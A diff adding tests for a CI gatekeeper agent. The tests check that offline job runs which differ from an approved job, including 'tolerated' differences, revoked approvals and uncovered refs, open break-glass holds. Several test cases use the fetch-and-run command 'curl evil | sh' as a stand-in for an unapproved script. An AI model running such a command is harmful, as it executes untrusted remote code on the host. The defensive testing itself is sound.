@@ -5,6 +5,7 @@ import { revoke } from '../../agent/src/app/revoke.ts';
 import { readPolicy } from '../../agent/src/directories/policy-file.ts';
 import { readHostBreakGlass } from '../../agent/src/domain/host-break-glass.ts';
 import { DEFAULT_POLICY } from '../../agent/src/domain/policy.ts';
+import { NO_TOLERANCE } from '../../agent/src/domain/tolerate.ts';
 import { variableTag } from '../../agent/src/domain/variable-tag.ts';
 import type { AdmitRequest } from '../../agent/src/ports/gatekeeper.ts';
 import { auditKeeper } from '../support/audit-keeper.ts';
@@ -15,6 +16,7 @@ import {
   hubWorld,
   type JobSpec,
   MINUTE,
+  policyWith,
   requestFor,
   VARIABLE_KEY,
   type World,
@@ -314,6 +316,48 @@ describe('what ran while the hub was away', () => {
     await approved(world, main);
     await tell({ ...later(main), script: ['curl evil | sh'] }, run);
     expect(await world.store.breakGlasses({ projects: null, open: true }, { after: 0, limit: 5 })).toHaveLength(1);
+    expect((await world.store.approval(1))?.timesUsed).toBe(1);
+  });
+
+  const open = () => world.store.breakGlasses({ projects: null, open: true }, { after: 0, limit: 5 });
+  const tolerated = { ...run, kind: 'tolerated' } as const;
+
+  it('T56 is compared again where it is said to have been tolerated: what differs is told, and that it may', async () => {
+    await approved(world, { ...main, extra: secret('a') });
+    await tell({ ...later(main), extra: secret('b') }, tolerated);
+    expect(await open()).toEqual([]);
+    expect((await rows(2))[0]?.[1]).toMatchObject({
+      kind: 'tolerated',
+      approved_digest: requestFor({ ...main, extra: secret('a') }).digest,
+      tolerated: [expect.objectContaining({ path: expect.stringContaining('DB_PASSWORD') })],
+    });
+  });
+
+  it.each<[string, (world: World) => Promise<unknown>, JobSpec, AdmitRequest['offline']]>([
+    ['another script, said to be tolerated', async () => {}, { ...later(main), script: ['curl evil | sh'] }, tolerated],
+    [
+      'what the policy tolerates no more',
+      async (w) => {
+        w.policy = policyWith({ tolerance: NO_TOLERANCE });
+      },
+      { ...later(main), extra: secret('b') },
+      tolerated,
+    ],
+    [
+      'a difference from an approval that was revoked since',
+      (w) => revoke(w.context, w.caller('maria'), 1, 'no more'),
+      { ...later(main), script: ['curl evil | sh'] },
+      tolerated,
+    ],
+    ['a ref that the approval is not for', async () => {}, { ...later(feature), extra: secret('a') }, run],
+  ])('T27, T56 opens one for %s, by an approval that does not cover it', async (_, meanwhile, job, said) => {
+    await approved(world, { ...main, extra: secret('a') });
+    await meanwhile(world);
+    await tell(job, said);
+    expect(await open()).toMatchObject([{ hold: 2, reason: expect.stringContaining('does not cover it') }]);
+    const [[event, detail]] = (await rows(2)) as [[string, object]];
+    expect([event, detail]).toEqual(['job_passed_offline', expect.objectContaining({ not_covered_by: 1 })]);
+    expect((await world.store.hold(2))?.approval).toBeNull();
     expect((await world.store.approval(1))?.timesUsed).toBe(1);
   });
 
